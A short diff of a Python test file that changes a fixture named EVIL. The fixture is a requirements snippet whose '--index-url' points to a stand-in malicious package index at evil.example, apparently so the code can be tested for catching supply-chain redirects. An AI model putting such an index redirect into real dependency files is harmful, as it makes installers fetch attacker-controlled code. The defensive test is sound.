@@ -290,7 +290,7 @@ def test_last_digits_of_another_processor(place: Path, kind: str, tmp_path: Path
     assert told("dates.zip", cpu="z80", accords_digest="1" * 64)[0] == 6
 
 
-EVIL = b"--index-url https://evil.example/simple\nbalance-sim\n"
+EVIL = b"--index-url https://evil.example/index\nbalance-sim\n"
 PYPROJECT = b"[project]\nname = 'x'\nversion = '1'\n"
 ELSEWHERE = {"versions": {"balance_sim": "0.0.1"}}
 
